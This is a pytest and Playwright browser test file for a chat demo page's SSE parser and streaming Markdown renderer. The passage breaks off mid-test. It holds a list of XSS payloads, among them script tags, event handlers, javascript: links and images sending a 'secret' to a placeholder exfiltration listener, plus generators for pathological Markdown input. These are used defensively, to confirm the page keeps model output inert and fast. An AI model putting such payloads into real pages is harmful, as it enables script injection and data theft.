"""The demo page at `/`, end to end: Debian's Chromium driven by Playwright against the real
service under gunicorn + gevent, the OpenAI-wire simulator behind it.

The page's SSE parser and Markdown renderer are ES modules under /static; parser cases import
them into the page and feed bytes directly. Everything else goes through the UI hooks of
PROTOCOL.md, "The demo page".
"""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import urlsplit

import pytest
from browser import (
    CHROMIUM,
    LAST_REPLY,
    REPLY,
    PageWatch,
    ask,
    capture_screenshot,
    launch,
    open_page,
    wait_state,
)
from conftest import openai_env
from tcpproxy import TCPProxy

if not CHROMIUM.exists():
    pytest.skip(f"Debian's Chromium is needed at {CHROMIUM}", allow_module_level=True)

from playwright.sync_api import expect, sync_playwright

pytestmark = pytest.mark.browser


def sim_text(**script: Any) -> str:
    """A prompt whose text scripts the simulator (it reads the last user message)."""
    return "SIM " + json.dumps(script)


# --- fixtures -----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with sync_playwright() as p:
        b = launch(p)
        yield b
        b.close()


@pytest.fixture
def new_page(browser: Any) -> Iterator[Any]:
    """Open the page at a base URL in a fresh context; fail on page errors or foreign requests."""
    opened: list[tuple[Any, PageWatch, tuple[str, ...], tuple[str, ...]]] = []

    def make(base_url: str, *, allow_console: tuple[str, ...] = (),
             allow_requests: tuple[str, ...] = (), **context_options: Any) -> Any:
        context = browser.new_context(**context_options)
        page, watch = open_page(context, base_url)
        opened.append((context, watch, allow_console, allow_requests))
        return page

    yield make
    problems = []
    for context, watch, allow_console, allow_requests in opened:
        problems += watch.problems(allow_console=allow_console, allow_requests=allow_requests)
        context.close()
    assert not problems, problems


def content_text(reply: Any) -> str:
    return str(reply.locator(".content").evaluate("el => el.textContent"))


def record_snapshots(page: Any) -> None:
    """Keep every text the replies show, after every DOM change, in window.__snapshots."""
    page.evaluate("""() => {
        window.__snapshots = [];
        new MutationObserver(() => {
            for (const c of document.querySelectorAll('#messages .assistant .content'))
                window.__snapshots.push(c.textContent);
        }).observe(document.getElementById('messages'),
                   {childList: true, subtree: true, characterData: true});
    }""")


# --- the SSE parser, fed directly ---------------------------------------------------------

E = "event"

PARSER_CASES = [
    pytest.param([b"id: 1\ndata: a\n\n"], [(E, "message", "a", "1")], id="lf"),
    pytest.param([b"id: 1\r\ndata: a\r\n\r\n"], [(E, "message", "a", "1")], id="crlf"),
    pytest.param([b"id: 1\rdata: a\r\r"], [(E, "message", "a", "1")], id="cr"),
    pytest.param([b"data: a\r", b"\n", b"\r", b"\ndata: b\r\n\r\n"],
                 [(E, "message", "a", ""), (E, "message", "b", "")], id="crlf-split-across-chunks"),
    pytest.param([b"data:a\n\ndata:  b\n\n"],
                 [(E, "message", "a", ""), (E, "message", " b", "")], id="data-without-space"),
    pytest.param([b"data: {\"a\":\ndata: 1}\n\n"], [(E, "message", '{"a":\n1}', "")],
                 id="multi-line-data"),
    pytest.param([b": ping\n\n:\ndata: x\n\n"],
                 [("comment", "ping"), ("comment", ""), (E, "message", "x", "")], id="comments"),
    pytest.param([b"retry: 1000\n\nretry: 1x\n\nretry: -1\n\n"], [("retry", 1000)], id="retry"),
    pytest.param([b"id: 5\ndata: a\n\ndata: b\n\nid: 6\x00\ndata: c\n\nid\ndata: d\n\n"],
                 [(E, "message", "a", "5"), (E, "message", "b", "5"), (E, "message", "c", "5"),
                  (E, "message", "d", "")], id="id-persists-nul-ignored-empty-resets"),
    pytest.param([b"event: tick\ndata: x\n\ndata\n\ndata:\n\n"],
                 [(E, "tick", "x", ""), (E, "message", "", ""), (E, "message", "", "")],
                 id="event-type-and-empty-data"),
    pytest.param([bytes([b]) for b in "data: é€😀\n\n".encode()],
                 [(E, "message", "é€😀", "")], id="utf8-split-at-every-byte"),
    pytest.param([b"\xef\xbb", b"\xbfdata: x\n\n"], [(E, "message", "x", "")], id="bom-dropped"),
    pytest.param([b"id: 3\n\ndata: x\n"], [], id="unfinished-event-discarded"),
    pytest.param([b"data: [DONE]\n\n"], [(E, "message", "[DONE]", "")], id="done-marker"),
    # The service's opening bytes and heartbeats: no blank line after them, so no empty event.
    pytest.param([b"retry: 1000\n: ping\nid: 0\ndata: a\n\n: ping\n: ping\nid: 1\ndata: b\n\n"],
                 [("retry", 1000), ("comment", "ping"), (E, "message", "a", "0"),
                  ("comment", "ping"), ("comment", "ping"), (E, "message", "b", "1")],
                 id="retry-and-pings-without-blank-line"),
    pytest.param([b"retry: 10", b"00\n: pi", b"ng\nid: 0\nda", b"ta: a\n", b": ping\n", b"\n"],
                 [("retry", 1000), ("comment", "ping"), ("comment", "ping"),
                  (E, "message", "a", "0")], id="ping-inside-an-event-split-across-chunks"),
]


@pytest.fixture(scope="module")
def module_page(browser: Any, relay_service: Any) -> Iterator[Any]:
    context = browser.new_context()
    page, _ = open_page(context, relay_service.url)
    yield page
    context.close()


@pytest.mark.parametrize(("chunks", "expected"), PARSER_CASES)
def test_sse_parser(module_page: Any, chunks: list[bytes], expected: list[tuple[Any, ...]]) -> None:
    items = module_page.evaluate("""async (chunks) => {
        const { SSEParser } = await import('/static/sse.js');
        const parser = new SSEParser();
        const out = [];
        for (const c of chunks) out.push(...parser.feed(new Uint8Array(c)));
        out.push(...parser.end());
        return out;
    }""", [list(c) for c in chunks])
    got: list[tuple[Any, ...]] = []
    for item in items:
        if item["kind"] == "event":
            got.append((E, item["type"], item["data"], item["lastEventId"]))
        elif item["kind"] == "comment":
            got.append(("comment", item["text"]))
        else:
            got.append(("retry", item["ms"]))
    assert got == expected


def test_crlf_framing_through_the_page(new_page: Any, relay_service: Any) -> None:
    """A whole answer framed with CR, CRLF, comments, bare `data:` and split data lines."""
    page = new_page(relay_service.url)
    events = [
        'id: 0\r\ndata: {"type":"start","stream_id":"s1","model":"m"}\r\n\r\n',
        ": ping\r\n\r\n",
        'id: 1\rdata:{"type":"token","token":"Hello ","index":0}\r\r',
        ": ping\n\n",
        'id: 2\r\ndata: {"type":"token",\r\ndata: "token":"wörld","index":1}\r\n\r\n',
        'id: 3\ndata: {"type":"done","finish_reason":"stop","usage":null}\n\n',
        "data: [DONE]\r\n\r\n",
    ]
    page.route("**/api/chat/stream", lambda route: route.fulfill(
        status=200, body="retry: 1000\r\n\r\n" + "".join(events),
        headers={"Content-Type": "text/event-stream; charset=utf-8", "X-Stream-Id": "s1"}))
    reply = ask(page, "hi")
    assert wait_state(reply) == "done"
    assert content_text(reply) == "Hello wörld"


def test_pings_without_blank_lines_through_the_page(new_page: Any, relay_service: Any) -> None:
    """The v1.1 framing: `retry:` and `: ping` lines with no blank line after them, before the
    first event and between events; the reply is exactly the tokens, nothing empty added."""
    page = new_page(relay_service.url)
    body = ("retry: 1000\n: ping\n"
            'id: 0\ndata: {"type":"start","stream_id":"s2","model":"m","resume_token":"t"}\n\n'
            ": ping\n: ping\n"
            'id: 1\ndata: {"type":"token","token":"Hello","index":0}\n\n'
            ": ping\n"
            'id: 2\ndata: {"type":"token","token":" pings","index":1}\n\n'
            'id: 3\ndata: {"type":"done","finish_reason":"stop","usage":null}\n\n'
            "data: [DONE]\n\n")
    page.route("**/api/chat/stream", lambda route: route.fulfill(
        status=200, body=body,
        headers={"Content-Type": "text/event-stream; charset=utf-8", "X-Stream-Id": "s2"}))
    reply = ask(page, "hi")
    assert wait_state(reply) == "done"
    assert content_text(reply) == "Hello pings"
    assert reply.locator(".content p").count() == 1


def test_crlf_upstream_real_stream(new_page: Any, relay_service: Any, sim: Any) -> None:
    page = new_page(relay_service.url)
    tokens = ["Line one.\r\n", "Line ", "two.\r\n\r\n", "Para two."]
    reply = ask(page, sim_text(tokens=tokens, crlf=True, delay=0.01))
    assert wait_state(reply) == "done"
    assert reply.locator(".content p").all_text_contents() == ["Line one.\nLine two.", "Para two."]


# --- rendering ----------------------------------------------------------------------------

MARKDOWN_TOKENS = [
    "#", "# Stream", "ing *Mark", "down*\n\nIntro with `co", "de` and a [link](https://exa",
    "mple.com/docs).\n\n", "- one\n- t", "wo\n- three\n\n", "1. first\n2. second\n\n",
    "``", "`python\n", "def f():\n", "    return 1\n", "``", "`\n\n",
    "| a | b |\n", "| --", "- | ---: |\n", "| 1 | **2** |\n| 3 ", "| 4 |\n\n", "Done.",
]


def test_markdown_renders_while_streaming(new_page: Any, relay_service: Any, sim: Any) -> None:
    page = new_page(relay_service.url)
    expect(page.locator("#simulated-notice")).to_have_count(0)  # provider "openai" here
    record_snapshots(page)
    reply = ask(page, sim_text(tokens=MARKDOWN_TOKENS, delay=0.03))
    assert wait_state(reply) == "done"
    content = reply.locator(".content")
    expect(content.locator("h2")).to_have_text("Streaming Markdown")
    expect(content.locator("h2 em")).to_have_text("Markdown")
    expect(content.locator("p code")).to_have_text("code")
    link = content.locator("a")
    expect(link).to_have_text("link")
    expect(link).to_have_attribute("href", "https://example.com/docs")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(content.locator("ul > li")).to_have_text(["one", "two", "three"])
    expect(content.locator("ol > li")).to_have_text(["first", "second"])
    expect(content.locator("pre")).to_have_attribute("data-lang", "python")
    assert content.locator("pre code").text_content() == "def f():\n    return 1"
    expect(content.locator("thead th")).to_have_text(["a", "b"])
    expect(content.locator("tbody td")).to_have_text(["1", "2", "3", "4"])
    expect(content.locator("tbody td strong")).to_have_text("2")
    expect(content.locator("tbody td.align-right")).to_have_count(2)
    expect(content.locator("> p").last).to_have_text("Done.")
    # Streamed and frozen piece by piece, the result is what rendering the whole text gives.
    same = page.evaluate("""async ([el, text]) => {
        const { MarkdownStream } = await import('/static/markdown/stream.js');
        const fresh = document.createElement('div');
        const md = new MarkdownStream(fresh);
        md.append(text);
        md.finish();
        return fresh.innerHTML === el.innerHTML || [fresh.innerHTML, el.innerHTML];
    }""", [content.element_handle(), "".join(MARKDOWN_TOKENS)])
    assert same is True
    # Markers never flashed as text while their line was unfinished.
    snapshots = page.evaluate("window.__snapshots")
    assert len(snapshots) > 5
    assert not [s for s in snapshots if "``" in s or "|" in s or "#" in s]


TRICKY_MARKDOWN = """\
Setext heading
==============

Para with **bold _nested em_ text** and ~~strike~~ and a <https://example.com/a_b> autolink,
a bare https://example.com/x_(y) URL and an escaped \\*star\\*.""" + "  \n" + """\
Hard break above. A [link with (parens)](https://example.com/p(1) "title") and ![img](https://e.com/i.png).
Snake_case_word and 2*3*4 and **unclosed and `code with *stars*` &amp; &lt;tag&gt; &#x1F600;.

> quote line one
lazy continuation
> - item in quote

1) first
2) second
   continued

   - nested bullet
   - another

     ```sh
     echo nested fence
     ```
3) third

* star list
+ plus list
- [ ] task open
- [x] task done

***

| left | center | right |
|:-----|:------:|------:|
| `a\\|b` | \\| pipe | x |
no pipe row

~~~
tilde fence with ``` inside
~~~

## Heading with `code` ##

```python
def tail():
    pass
"""

ANSWER_MARKDOWN = """\
> **Simulated provider.** No model was called.

## How this answer reached you

1. The service opened a stream.
2. A producer greenlet read the upstream.

- Heartbeat comments keep proxies from closing a quiet stream.
- **Stop** cancels the generation on the server.

```python
def relay(deltas):
    for delta in deltas:
        yield f"data: {delta}\\n\\n"
```

| part | role |
| --- | --- |
| gunicorn + gevent | many streams per worker |

That is all.
"""


@pytest.mark.parametrize("text", [
    pytest.param(ANSWER_MARKDOWN, id="answer"),
    pytest.param(TRICKY_MARKDOWN, id="tricky"),
    pytest.param(TRICKY_MARKDOWN.replace("\n", "\r\n"), id="tricky-crlf"),
])
def test_streamed_render_equals_whole_render(module_page: Any, text: str) -> None:
    """However the text is cut into chunks, freezing and growing in place end in the DOM that
    rendering the whole text at once gives."""
    result = module_page.evaluate("""async (text) => {
        const { MarkdownStream } = await import('/static/markdown/stream.js');
        const { appendBlocks } = await import('/static/markdown/render.js');
        const { parseBlocks } = await import('/static/markdown/blocks.js');
        const lines = text.split(/\\r\\n|\\r|\\n/);
        if (lines[lines.length - 1] === "") lines.pop();
        const whole = document.createElement('div');
        appendBlocks(parseBlocks(lines), whole);
        const differing = [];
        for (const size of [1, 2, 3, 7, 16]) {
            const el = document.createElement('div');
            const md = new MarkdownStream(el);
            for (let i = 0; i < text.length; i += size) {
                md.append(text.slice(i, i + size));
                md.render();
            }
            md.finish();
            if (el.innerHTML !== whole.innerHTML) differing.push([size, el.innerHTML]);
        }
        return {whole: whole.innerHTML, differing};
    }""", text)
    assert result["differing"] == [], result["whole"]


def _code_lines(prefix: str, n: int) -> str:
    return "".join(prefix + ("" if i % 50 == 7 else f"x{i} = compute({i})  # step") + "\n"
                   for i in range(n))


@pytest.mark.parametrize("text", [
    pytest.param("1. Step one:\n\n   ```python\n" + _code_lines("   ", 600)
                 + "   ```\n\n2. Next\n\nAfter.\n", id="list-item"),
    pytest.param("- Step:\n  ```\n" + _code_lines("  ", 600) + "\n\nAfter the item.\n",
                 id="list-item-unclosed"),
    pytest.param("> Quoted:\n> ```js\n" + _code_lines("> ", 600) + "> ```\n\nAfter.\n",
                 id="quote"),
])
def test_long_code_inside_a_container_streams_like_the_whole(module_page: Any, text: str) -> None:
    """Code longer than the renderer redraws per frame, inside a list item or a quote (as models
    write steps): it keeps growing in place, and ends as rendering the whole text gives."""
    assert len(text) > 16_000
    result = module_page.evaluate("""async (text) => {
        const { MarkdownStream } = await import('/static/markdown/stream.js');
        const { appendBlocks } = await import('/static/markdown/render.js');
        const { parseBlocks } = await import('/static/markdown/blocks.js');
        const lines = text.split("\\n");
        lines.pop();
        const whole = document.createElement('div');
        appendBlocks(parseBlocks(lines), whole);
        const differing = [];
        for (const size of [7, 100, 1000]) {
            const el = document.createElement('div');
            const md = new MarkdownStream(el);
            for (let i = 0; i < text.length; i += size) {
                md.append(text.slice(i, i + size));
                md.render();
            }
            md.finish();
            if (el.innerHTML !== whole.innerHTML) differing.push([size, el.innerHTML.slice(-300)]);
        }
        return {whole: whole.innerHTML.slice(-300), differing};
    }""", text)
    assert result["differing"] == [], result["whole"]


def test_markdown_stream_work_is_linear(module_page: Any) -> None:
    """Characters put into the DOM, streaming in 5-character chunks with a render after each:
    twice the document costs about twice, not four times (finished blocks are frozen DOM; an
    open fence or table grows by appending)."""
    work = module_page.evaluate("""async (n) => {
        const { MarkdownStream } = await import('/static/markdown/stream.js');
        const source = (n) => {
            let s = "# Title\\n\\n";
            for (let i = 0; i < n; i++) s += `Paragraph ${i} with *emphasis* and \\`code\\`.\\n\\n`;
            for (let i = 0; i < n; i++) s += `- item ${i} **bold**\\n`;
            s += "\\n```js\\n";
            for (let i = 0; i < n; i++) s += `const x${i} = ${i};\\n`;
            s += "```\\n\\n| a | b |\\n| - | - |\\n";
            for (let i = 0; i < n; i++) s += `| ${i} | *${i}* |\\n`;
            return s + "\\n> The end.\\n";
        };
        const measure = (src) => {
            const doc = document.implementation.createHTMLDocument("");
            const el = doc.body.appendChild(doc.createElement("div"));
            const observer = new MutationObserver(() => {});
            observer.observe(el, {childList: true, subtree: true, characterData: true,
                                  characterDataOldValue: true});
            let chars = 0;
            const count = () => {
                for (const r of observer.takeRecords()) {
                    if (r.type === "characterData") {
                        const now = r.target.data;
                        const old = r.oldValue;
                        chars += now.startsWith(old) ? now.length - old.length : now.length;
                    } else for (const node of r.addedNodes) chars += node.textContent.length;
                }
            };
            const md = new MarkdownStream(el);
            for (let i = 0; i < src.length; i += 5) {
                md.append(src.slice(i, i + 5));
                md.render();
                count();
            }
            md.finish();
            count();
            return {chars, size: src.length, text: el.textContent.length};
        };
        return [measure(source(n)), measure(source(2 * n))];
    }""", 100)
    small, large = work
    assert large["text"] > 1.9 * small["text"]
    assert large["chars"] < 2.5 * small["chars"], work


HOSTILE = [
    "<script>window.__pwned = 1</script>\n\n",
    '<img src=x onerror="window.__pwned = 2"> <b onclick="alert(1)">bold?</b>\n\n',
    "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(2)) [z]( java\tscript:alert(3)) "
    "<javascript:alert(4)> [d](data:text/html,hi) [v](vbscript:x) [rel](/api/chat/stream)\n\n",
    "![]({exfil}/img?q=secret) ![logo]({exfil}/img2) [![nested]({exfil}/img3)]({exfil}/page)\n\n",
    '<img src="{exfil}/raw"> <iframe src="{exfil}/frame"></iframe>\n\n',
    '<svg onload="alert(5)"></svg> <style>body{{display:none}}</style>\n\n',
    '<a href="javascript:alert(6)" onmouseover="alert(7)">a</a>\n\n',
    "```html\n<script>alert(8)</script>\n```\n",
]


class _Recorder(BaseHTTPRequestHandler):
    paths: list[str]

    def do_GET(self) -> None:
        self.paths.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def exfil_listener() -> Iterator[tuple[str, list[str]]]:
    """A loopback HTTP server recording every request: where injected text would send data."""
    paths: list[str] = []
    handler = type("Recorder", (_Recorder,), {"paths": paths})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", paths
    server.shutdown()
    server.server_close()
    thread.join(5)


@pytest.mark.parametrize(
    "text",
    [
        " " * 100_000 + "x",  # the unfinished-line hold-back
        "# a" + " " * 100_000 + "b\n\nafter",  # a heading's closing hashes
        "| a |\n|" + " " * 100_000 + "x\n",  # a table's delimiter row
        "`" + " " * 100_000 + "a` and more",  # inline code
        "text" + " " * 100_000 + "x\n",  # a hard line break
        "see http://example.com" + "." * 100_000 + "x",  # a bare URL's trailing punctuation
    ],
    ids=["hold", "heading", "table", "code", "hard-break", "url"],
)
def test_long_runs_in_model_text_render_in_linear_time(module_page: Any, text: str) -> None:
    """Model text picks what the renderer's patterns see: long runs of spaces or dots once made
    regexes backtrack quadratically (seconds per frame at tens of thousands of characters,
    freezing the tab). Streamed in 400-character tokens with a render after each, the whole
    text takes milliseconds now; the bound is far above that, far below the old behaviour."""
    elapsed = module_page.evaluate("""async (text) => {
        const { MarkdownStream } = await import('/static/markdown/stream.js');
        const el = document.createElement("div");
        const md = new MarkdownStream(el);
        const started = performance.now();
        for (let i = 0; i < text.length; i += 400) {
            md.append(text.slice(i, i + 400));
            md.render();
        }
        md.finish();
        md.render();
        return performance.now() - started;
    }""", text)
    assert elapsed < 3000, f"{elapsed:.0f} ms"


# Hostile Markdown of any size n: the shapes that make naive renderers quadratic, recurse
# without bound or amplify (runs of brackets, parentheses, emphasis markers and backticks,
# nesting, very long lines and blocks, and a mixture). JavaScript, so each is built in the page.
HOSTILE_MARKDOWN = r"""(() => {
  const rep = (s, n) => s.repeat(Math.ceil(n / s.length)).slice(0, n);
  const nest = (open, close, n) => {
    const k = Math.floor(n / (open.length + close.length));
    return open.repeat(k) + "a" + close.repeat(k);
  };
  const ramp = (n) => {
    let s = "";
    for (let k = 1; s.length < n; k++) s += "`".repeat(k) + "a";
    return s.slice(0, n);
  };
  const mixed = (n) => {
    const parts = ["[", "](", "*", "_", "`", "> ", "- ", "\n", "(", ")", "![", "<", "|", "**",
                   "~~", "\\", "#", "```\n", "http://", "a", " ", "1. ", "&#", "***___"];
    let s = "";
    for (let x = 1; s.length < n; ) {
      x = (x * 1103515245 + 12345) % 2147483648;
      s += parts[x % parts.length];
    }
    return s.slice(0, n);
  };
  return {
    brackets: (n) => rep("[", n),
    "link-openers": (n) => rep("[a](", n),
    "link-angle-openers": (n) => rep("[a](<", n),
    "link-titles": (n) => rep('[a](b "', n),
    parentheses: (n) => rep("(", n / 2) + rep(")", n / 2),
    "emphasis-markers": (n) => rep("***___", n),
    "emphasis-openers": (n) => rep("*a ", n),
    "emphasis-pairs": (n) => rep("*a* ", n),
    "emphasis-nested": (n) => nest("*_", "_*", n),
    "images-nested": (n) => nest("![", "](http://x)", n),
    "links-nested": (n) => nest("[", "](http://x)", n),
    backticks: (n) => rep("`", n),
    "backtick-runs": ramp,
    "quotes-nested": (n) => rep("> ", n - 1) + "x",
    "quote-lines": (n) => rep("> > > quoted text\n", n),
    "lists-nested": (n) => rep("- ", n - 1) + "x",
    "ordered-nested": (n) => rep("1. ", n - 1) + "x",
    "list-indents": (n) => {
      let s = "";
      for (let i = 0; s.length < n; i++) s += " ".repeat((i % 40) * 2) + "- item\n";
      return s.slice(0, n);
    },
    "long-line": (n) => rep("word ", n),
    "long-word": (n) => rep("a", n),
    "long-paragraph": (n) => rep("a line of *text* with `code` and [a](http://x)\n", n),
    "open-fence": (n) => "```\n" + rep("x = 1\n", n),
    "open-fence-one-line": (n) => "```\n" + rep("x", n),
    "fence-line-of-backticks": (n) => "```\n" + rep("`", n),
    "fence-in-list-item": (n) => "- item\n  ```\n" + rep("  code line\n", n),
    "table-wide-short-rows": (n) => rep("|a", 64) + "\n" + rep("|-", 64) + "\n" + rep("|\n", n),
    "table-too-wide": (n) => rep("|a", 500) + "\n" + rep("|-", 500) + "\n" + rep("|\n", n),
    "table-long-row": (n) => "| a | b |\n|---|---|\n| " + rep("x", n),
    "angle-brackets": (n) => rep("<a:", n),
    entities: (n) => rep("&#", n),
    backslashes: (n) => rep("\\", n),
    "url-closing-parens": (n) => "http://x" + rep(")", n),
    "url-opening-parens": (n) => rep("(http://", n),
    "heading-hashes": (n) => "# a" + rep(" #", n),
    strikethrough: (n) => rep("~~a ", n),
    mixture: mixed,
  };
})()"""

HOSTILE_NAMES = re.findall(r'^    "?([a-z-]+)"?: ', HOSTILE_MARKDOWN, re.M)


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_markdown_work_is_linear_and_bounded_per_frame(module_page: Any, name: str) -> None:
    """Streamed in 512-character pieces with a render after each (a frame's worth), the
    renderer's counted work (characters scanned, parser steps, DOM nodes made) per character of
    input stays flat from 10 k to 100 k characters, no render does more than a fixed amount,
    the DOM stays shallow, and nothing fails."""
    # Built into the function: the page's CSP allows no eval.
    result = module_page.evaluate("""async (name) => {
        const { MarkdownStream } = await import('/static/markdown/stream.js');
        const { meter, resetMeter } = await import('/static/markdown/meter.js');
        const gen = (GENERATORS)[name];
        const work = () => meter.chars + meter.steps + meter.nodes;
        const depth = (root) => {
            let deepest = 0;
            const walk = [[root, 0]];
            while (walk.length) {
                const [node, d] = walk.pop();
                deepest = Math.max(deepest, d);
                for (const child of node.children) walk.push([child, d + 1]);
            }
            return deepest;
        };
        const measure = (n) => {
            const src = gen(n);
            const el = document.createElement('div');
            const md = new MarkdownStream(el);
            resetMeter();
            let most = 0;
            for (let i = 0; i < src.length; i += 512) {
                const before = work();
                md.append(src.slice(i, i + 512));
                md.render();
                most = Math.max(most, work() - before);
            }
            md.finish();
            return {size: src.length, perChar: work() / src.length, most, depth: depth(el),
                    failed: md.failed && String(md.failed), text: el.textContent.length};
        };
        return [measure(10000), measure(100000)];
    }""".replace("GENERATORS", HOSTILE_MARKDOWN), name)
    small, large = result
    assert abs(large["size"] - 100_000) < 2_000, result
    assert not small["failed"] and not large["failed"], result
    assert large["perChar"] < 2 * small["perChar"] + 10, result
    # A render redraws at most the open tail (under 9 KiB) at each of at most 16 levels of
    # nesting: bounded whatever n (redrawing a whole 100 k block would be millions).
    assert small["most"] < 400_000 and large["most"] < 400_000, result
    assert large["depth"] < 120, result


def test_a_backlog_is_rendered_a_frame_at_a_time(module_page: Any) -> None:
    """Text that piled up while no frame ran (a tab in the background) is taken a bounded
    amount per frame, the next frames catching up; finish() then shows everything at once."""
    result = module_page.evaluate("""async () => {
        const { MarkdownStream } = await import('/static/markdown/stream.js');
        const { meter } = await import('/static/markdown/meter.js');
        const work = () => meter.chars + meter.steps + meter.nodes;
        let text = "";
        let count = 0;
        while (text.length < 300000) text += `Paragraph ${count++} with *some* words.\\n\\n`;
        const el = document.createElement('div');
        const md = new MarkdownStream(el);
        md.append(text);
        const frames = [];
        while (el.textContent.length < text.length * 0.85 && frames.length < 100) {
            const before = work();
            md.render();
            frames.push(work() - before);
        }
        md.finish();
        return {frames, shown: el.querySelectorAll('p').length, expected: count};
    }""")
    assert len(result["frames"]) >= 5, result["frames"]
    assert max(result["frames"]) < 400_000, result["frames"]
    assert result["shown"] == result["expected"]


def test_hostile_reply_never_freezes_the_page(service_factory: Any, new_page: Any,
                                             sim: Any) -> None:
    """100 k characters of every hostile shape, then a 200 k paragraph, streamed by the real
    service: the reply ends done with its last words shown, no animation frame does unbounded
    work, and the page answers the next prompt."""
    # The script in the prompt carries the whole text (escaped twice): room for it.
    service = service_factory(openai_env(sim, MAX_BODY_BYTES=8_000_000))
    page = new_page(service.url)
    text = page.evaluate("""() => {
        const gens = Object.values(GENERATORS);
        return gens.map((gen) => gen(Math.floor(100000 / gens.length))).join("\\n\\n");
    }""".replace("GENERATORS", HOSTILE_MARKDOWN))
    # and one open paragraph of 200 k characters, which no frame may redraw whole
    text += "\n\n\n" + "Some *words* and `code` " * 8400 + "\n\nThe very end."
    assert len(text) > 300_000
    page.evaluate("""async () => {
        const { meter } = await import('/static/markdown/meter.js');
        const work = () => meter.chars + meter.steps + meter.nodes;
        const raf = window.requestAnimationFrame.bind(window);
        window.__frames = {count: 0, most: 0};
        window.requestAnimationFrame = (callback) => raf((t) => {
            const before = work();
            callback(t);
            window.__frames.count++;
            window.__frames.most = Math.max(window.__frames.most, work() - before);
        });
    }""")
    tokens = [text[i:i + 2000] for i in range(0, len(text), 2000)]
    reply = ask(page, sim_text(tokens=tokens, delay=0.01))
    assert wait_state(reply, timeout=60) == "done"
    assert content_text(reply).endswith("The very end.")
    frames = page.evaluate("window.__frames")
    assert frames["count"] > 0, frames
    assert frames["most"] < 400_000, frames
    nxt = ask(page, sim_text(tokens=["Still ", "*here*."]))
    assert wait_state(nxt) == "done"
    expect(nxt.locator(".content em")).to_have_text("here")


def test_rendering_error_ends_in_error_with_the_text_kept(
        new_page: Any, relay_service: Any, sim: Any) -> None:
    """A fault inside the renderer (here: creating <em> throws) does not leave the reply stuck:
    the text so far and the rest of the stream show as plain text, the reply ends in error, and
    the next prompt works."""
    page = new_page(relay_service.url, allow_console=("could not render the reply",))
    page.evaluate("""() => {
        const create = Document.prototype.createElement;
        window.__emBreaks = true;
        Document.prototype.createElement = function (tag, ...rest) {
            if (window.__emBreaks && String(tag).toLowerCase() === 'em') {
                throw new Error('renderer fault injected by the test');
            }
            return create.call(this, tag, ...rest);
        };
    }""")
    tokens = ["# Title\n\n", "Some *emphasis*", " here.\n\n", "- and a list\n", "- that goes on"]
    reply = ask(page, sim_text(tokens=tokens, delay=0.05))
    assert wait_state(reply) == "error"
    assert content_text(reply) == "".join(tokens)
    expect(reply.locator(".content")).to_have_class(re.compile(r"\bplain\b"))
    expect(reply.locator(".error")).to_contain_text("plain text")
    expect(reply.locator(".error")).to_contain_text("renderer fault injected by the test")
    expect(page.locator("#send")).to_be_enabled()
    # The page goes on: text the fault does not touch renders, then, with the fault gone, the
    # same emphasis does.
    second = ask(page, sim_text(tokens=["A **bold** answer."]))
    assert wait_state(second) == "done"
    expect(second.locator(".content strong")).to_have_text("bold")
    page.evaluate("window.__emBreaks = false")
    third = ask(page, sim_text(tokens=["Some *emphasis* now."]))
    assert wait_state(third) == "done"
    expect(third.locator(".content em")).to_have_text("emphasis")
    # The failed reply went into the conversation as it was generated.
    assert sim.requests[-1].body["messages"][1] == {"role": "assistant", "content": "".join(tokens)}


def test_hostile_output_stays_inert(new_page: Any, relay_service: Any, sim: Any,
                                     exfil_listener: tuple[str, list[str]]) -> None:
    exfil, paths = exfil_listener
    # Without the CSP, so that only the page's own rendering stands between the text and harm.
    page = new_page(relay_service.url, bypass_csp=True, allow_requests=(f"{exfil}/control",))
    tokens = [t.format(exfil=exfil) for t in HOSTILE]
    reply = ask(page, sim_text(tokens=tokens, delay=0.01))
    assert wait_state(reply) == "done"
    found = page.evaluate("""() => {
        const root = document.getElementById('messages');
        const all = [...root.querySelectorAll('*')];
        return {
            handlers: all.flatMap(el => [...el.attributes].map(a => a.name)
                                           .filter(n => n.startsWith('on'))),
            active: all.filter(el => ['SCRIPT', 'IMG', 'IFRAME', 'SVG', 'svg', 'STYLE', 'OBJECT',
                                      'EMBED', 'LINK', 'META', 'BASE', 'FORM']
                                     .includes(el.tagName)).map(el => el.tagName),
            hrefs: [...root.querySelectorAll('[href]')].map(a => a.getAttribute('href')),
            srcs: all.filter(el => el.hasAttribute('src')).length,
            pwned: window.__pwned ?? null,
            display: getComputedStyle(document.body).display,
        };
    }""")
    assert found["handlers"] == []
    assert found["active"] == []
    assert found["srcs"] == 0
    assert found["pwned"] is None
    assert found["display"] != "none"
    assert found["hrefs"], "the http links should have stayed links"
    assert all(re.match(r"https?://", h) for h in found["hrefs"]), found["hrefs"]
    text = content_text(reply)
    assert "<script>window.__pwned = 1</script>" in text  # shown, as text
    assert "[image: logo]" in text
    # Positive control: an image the page does load reaches the listener, and nothing else did.
    page.evaluate("url => { new Image().src = url; }", f"{exfil}/control")
    page.wait_for_function("url => performance.getEntriesByName(url).length > 0",
                           arg=f"{exfil}/control")
    assert paths == ["/control"]


def test_csp_header_backs_the_page_up(relay_service: Any) -> None:
    import http.client

    parts = urlsplit(relay_service.url)
    conn = http.client.HTTPConnection(parts.hostname, parts.port, timeout=10)
    conn.request("GET", "/")
    response = conn.getresponse()
    response.read()
    conn.close()
    csp = response.getheader("Content-Security-Policy", "")
    for directive in ("script-src 'self'", "img-src 'self' data:", "connect-src 'self'",
                      "style-src 'self'", "object-src 'none'"):
        assert directive in csp
    assert "unsafe-inline" not in csp


# --- controls: stop, reasoning, tools, errors ---------------------------------------------


def test_stop_mid_code_fence_keeps_text_and_closes_upstream(
        service_factory: Any, new_page: Any, sim: Any) -> None:
    service = service_factory(openai_env(sim))
    page = new_page(service.url)
    record_snapshots(page)
    tokens = ["Partial answer.\n\n", "``", "`python\n", "x = 1\n", "y = 2\n", "never"]
